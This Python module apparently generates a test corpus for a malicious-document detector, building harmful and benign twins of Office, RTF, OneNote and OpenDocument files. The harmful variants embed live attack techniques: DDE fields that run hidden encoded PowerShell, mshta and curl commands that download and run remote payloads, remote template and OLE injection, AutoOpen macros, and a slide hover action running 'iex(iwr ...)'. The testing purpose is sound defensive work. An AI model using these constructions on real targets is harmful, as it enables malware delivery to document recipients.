"""Documents that attack without VBA: fields, relationships, objects, controls, notebooks, old formats."""

from __future__ import annotations

import struct

from app.engine.model import Verdict
from app.sandbox import samples
from app.sandbox.compound_file import compound_file
from tests.corpus.macros import harmless
from tests.corpus.payloads import PS, known_by_content, payload
from tests.corpus.registry import technique
from tests.corpus.sample import Draw, File, encoded
from tests.unit.engine.programs import windows
from tests.unit.engine.test_office_xml import field, old_equation, ole10, related, sheet, word
from tests.unit.engine.test_onenote import section
from tests.unit.engine.test_opendocument import document as open_document, listener
from tests.unit.engine.test_rtf import equation
from tests.unit.engine.test_word_binary import main_stream

_WORD_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _prose(draw: Draw) -> str:
    return f"<w:p><w:r><w:t>{draw.prose(80)}</w:t></w:r></w:p>"


@technique("office.dde_field")
def _dde(draw: Draw, harmful: bool) -> File:
    program = draw.one(
        "c:\\\\windows\\\\system32\\\\cmd.exe", "C:\\\\Programs\\\\Microsoft\\\\Office\\\\..\\\\..\\\\cmd.exe"
    )
    command = f"{draw.one('DDEAUTO', 'DDE')} {program} &quot;/k {PS} -w hidden -e {encoded(draw.url())}&quot;"
    page = f"{draw.one('PAGE', 'NUMPAGES')} \\* MERGEFORMAT"
    runs = draw.pieces(command, 9) if draw.rng.random() < 0.6 else [command]
    body = _prose(draw) + f"<w:p>{field(*(runs if harmful else [page]))}</w:p>"
    return File(f"{draw.stem()}.docx", word({}, body.replace("&", "&amp;").replace("&amp;quot;", "&quot;")))


@technique("office.dde_in_workbook", most=Verdict.SUSPICIOUS)
def _dde_sheet(draw: Draw, harmful: bool) -> File:
    """The twin asks a feed of stock prices by the same means, which hardly any workbook still does."""
    link = (
        f'<ddeLink ddeService="cmd" ddeTopic=" /c mshta {draw.url("hta")}"><ddeItems/></ddeLink>'
        if harmful
        else '<ddeLink ddeService="Bloomberg" ddeTopic="History"><ddeItems/></ddeLink>'
    )
    text = f"<?xml version='1.0' encoding='UTF-8'?><externalLink>{link}</externalLink>"
    return File(f"{draw.stem()}.xlsx", sheet({"xl/externalLinks/externalLink1.xml": text.encode()}))


@technique("office.dde_in_old_word")
def _dde_old(draw: Draw, harmful: bool) -> File:
    command = f'DDEAUTO c:\\\\windows\\\\system32\\\\mshta.exe "{draw.url("hta")}"'
    text = f"{draw.prose()} \x13 {command if harmful else 'DATE'} \x14x\x15 {draw.prose()}"
    parts = {"WordDocument": main_stream(text, wide=draw.rng.random() < 0.5), "1Table": bytes(40)}
    return File(f"{draw.stem()}.doc", compound_file(parts, {}))


@technique("office.remote_template")
def _template(draw: Draw, harmful: bool) -> File:
    kinds = ("dotm", "dot", "doc", "rtf", "wbk")
    outside = f"{draw.url(draw.rng.choice(kinds))}"
    inside = "file:///C:\\Program Files\\Microsoft Office\\Templates\\Normal.dotm"
    parts = related("attachedTemplate", outside if harmful else inside)
    return File(f"{draw.stem()}.docx", word(parts, _prose(draw)))


@technique("office.remote_object")
def _remote_object(draw: Draw, harmful: bool) -> File:
    url = draw.url("html")
    kind, target = draw.rng.choice(
        (("oleObject", f"mhtml:{url}!x-usc:{url}"), ("oleObject", f"{url}!"), ("frame", url), ("oleObject", url))
    )
    parts = related(kind, target) if harmful else related("hyperlink", draw.url())
    return File(f"{draw.stem()}.docx", word(parts, _prose(draw)))


@technique("office.remote_ribbon")
def _ribbon(draw: Draw, harmful: bool) -> File:
    kind = "http://schemas.microsoft.com/office/2006/relationships/ui/extensibility"
    macro = f"{draw.url('xlam')}!{draw.word()}" if harmful else draw.name()
    ui = f'<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" onLoad="{macro}"><ribbon/></customUI>'
    rels = (
        f'<?xml version="1.0"?><Relationships><Relationship Id="r9" Type="{kind}" Target="customUI/customUI.xml"/>'
        "</Relationships>"
    )
    return File(f"{draw.stem()}.xlsx", sheet({"customUI/customUI.xml": ui.encode(), "_rels/.rels": rels.encode()}))


@technique("office.packaged_file")
def _package(draw: Draw, harmful: bool) -> File:
    made = payload(draw, harmful)
    name = made.name.encode("ascii", "replace").decode()
    data = ole10(name, made.content) if len(made.content) < 3_000 else made.content
    where, make = draw.rng.choice((("word", word), ("xl", lambda parts, text: sheet(parts))))
    return File(
        f"{draw.stem()}.{'docx' if where == 'word' else 'xlsx'}",
        make({f"{where}/embeddings/oleObject1.bin": data}, _prose(draw)),
    )


@technique("office.packaged_file_in_old_document")
def _old_package(draw: Draw, harmful: bool) -> File:
    program = windows({"KERNEL32.dll": ["WinExec"]})[:2_500]
    made = File(f"{draw.stem()}.exe", program) if harmful else File(f"{draw.stem()}.txt", draw.prose().encode())
    label = made.name.encode() + b"\0"
    body = b"\x02\x00" + label + label + struct.pack("<HHI", 0, 3, len(label)) + label
    body += struct.pack("<I", len(made.content)) + made.content
    native = struct.pack("<I", len(body)) + body
    parts = {"WordDocument": main_stream(draw.prose()), "1Table": bytes(40), "\x01Ole10Native": native}
    return File(f"{draw.stem()}.doc", compound_file(parts, {}))


@technique("office.control", most=Verdict.SUSPICIOUS)
def _control(draw: Draw, harmful: bool) -> File:
    number = "{72C24DD5-D70A-438B-8A42-98424B88AFB8}" if harmful else "{8BD21D40-EC42-11CE-9E0D-00AA006002F3}"
    properties = (
        f'<ax:ocxPr ax:name="Command" ax:value="mshta {draw.url("hta")}"/>'
        if harmful
        else '<ax:ocxPr ax:name="Caption"/>'
    )
    text = (
        f'<?xml version="1.0"?><ax:ocx ax:classid="{number}" ax:persistence="persistPropertyBag" '
        f'xmlns:ax="http://schemas.microsoft.com/office/2006/activeX">{properties}</ax:ocx>'
    )
    return File(f"{draw.stem()}.docx", word({"word/activeX/activeX1.xml": text.encode()}, _prose(draw)))


@technique("office.equation_editor")
def _equation(draw: Draw, harmful: bool) -> File:
    font = draw.noise(60, 120).replace(b"\0", b"\x41") if harmful else b"Times New Roman"
    parts = {"word/embeddings/oleObject1.bin": old_equation(equation(font))}
    return File(f"{draw.stem()}.docx", word(parts, _prose(draw)))


@technique("office.macros_under_another_name", most=Verdict.SUSPICIOUS)
def _renamed_part(draw: Draw, harmful: bool) -> File:
    """The project of macros lies where nobody looks for it and is called something else."""
    from app.sandbox.compound_file import vba_project

    name = f"{draw.word()}.{draw.one('dat', 'jpg', 'xml', 'tmp')}"
    body = f'    Shell "cmd /c {PS} -w hidden -e {encoded(draw.url("ps1"))}", 0\n'
    source = f"Sub AutoOpen()\n{body}End Sub\n" if harmful else harmless(draw)
    rels = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
        f'Target="{name}"/></Relationships>'
    )
    parts = {f"word/{name}": vba_project(source), "word/_rels/document.xml.rels": rels.encode()}
    return File(f"{draw.stem()}.docm", word(parts, _prose(draw)))


@technique("office.notebook")
def _notebook(draw: Draw, harmful: bool) -> File:
    made = payload(draw, harmful)
    text = f"{draw.prose(20)} {'Double click to view' if harmful else 'Minutes'}"
    return File(f"{draw.stem()}.one", section({made.name: made.content}, text=text))


@technique("office.open_document_macro", most=Verdict.SUSPICIOUS)
def _open_document(draw: Draw, harmful: bool) -> File:
    command = f'Shell("cmd.exe", 0, "/c curl -o %TEMP%\\a.exe {draw.url("exe")} && %TEMP%\\a.exe")'
    source = f"Sub Main\n  {command if harmful else 'MsgBox 1'}\nEnd Sub\n"
    return File(f"{draw.stem()}.odt", open_document(listener("dom:load") if harmful else "", source))


@technique("office.web_archive_with_macros", most=Verdict.SUSPICIOUS)
def _single_file(draw: Draw, harmful: bool) -> File:
    """A document saved as a web archive, its macros packed beside its text."""
    from tests.corpus.macros import old_document, vba_parts
    from tests.unit.engine.test_mhtml import archive, packed

    body = f'    Shell "mshta {draw.url("hta")}", 0\n'
    source = f"Sub AutoOpen()\n{body}End Sub\n" if harmful else harmless(draw)
    page = f"<html><link rel=Edit-Time-Data href='editdata.mso'><body>{draw.prose()}</body></html>"
    content = archive(
        ("text/html", "file:///C:/a/b.htm", page.encode()),
        ("application/x-mso", "file:///C:/a/editdata.mso", packed(old_document(vba_parts(source)))),
    )
    return File(f"{draw.stem()}.doc", content)


@technique("office.slide_that_starts_a_program", most=Verdict.SUSPICIOUS)
def _slide(draw: Draw, harmful: bool) -> File:
    """A picture on the slide that starts a command under the mouse."""
    command = f"{PS} -NoP -w hidden -c iex(iwr {draw.url('ps1')})".replace("&", "&amp;").replace(" ", "%20")
    action = "ppaction://program" if harmful else "ppaction://hlinksldjump"
    event = draw.one("hlinkHover", "hlinkMouseOver", "hlinkClick")
    slide = f"<?xml version='1.0'?><p:sld><a:{event} r:id='rId2' action='{action}'/><a:t>{draw.prose()}</a:t></p:sld>"
    target, mode = (command, ' TargetMode="External"') if harmful else ("slide2.xml", "")
    kind = "hyperlink" if harmful else "slide"
    rels = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId2" Type="{_OFFICE}/{kind}" Target="{target}"{mode}/></Relationships>'
    )
    types = '<?xml version="1.0"?><Types><Override PartName="/ppt/presentation.xml" ContentType="x"/></Types>'
    parts = {
        "[Content_Types].xml": types.encode(),
        "ppt/presentation.xml": b"<?xml version='1.0'?><p:presentation/>",
        "ppt/slides/slide1.xml": slide.encode(),
        "ppt/slides/_rels/slide1.xml.rels": rels.encode(),
    }
    return File(f"{draw.stem()}.ppsx", samples.zip_of(parts))


@technique("office.document_in_document", most=Verdict.SUSPICIOUS)
def _inner(draw: Draw, harmful: bool) -> File:
    """A harmless document that carries another one with everything in it."""
    made = known_by_content(draw, harmful)
    chunk = f"word/{draw.word()}.{draw.one('rtf', 'docx', 'mht', 'bin')}"
    return File(f"{draw.stem()}.docx", word({chunk: made.content}, _prose(draw)))
